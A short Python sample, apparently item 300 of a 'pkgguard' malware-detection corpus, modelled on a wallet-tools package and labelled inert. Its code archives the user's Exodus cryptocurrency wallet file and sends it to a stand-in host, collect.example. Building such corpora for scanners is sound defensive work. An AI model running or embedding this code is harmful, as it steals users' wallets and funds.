# pkgguard corpus 300 (wallets), modelled on [wallet-tools]; inert, never run.
import io
import os
import tarfile
import urllib.request

home = os.path.expanduser("~")
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as tar:
    tar.add(os.path.join(home, ".config", "Exodus", "exodus.wallet"), arcname="w")
urllib.request.urlopen("https://collect.example/w", data=buf.getvalue())
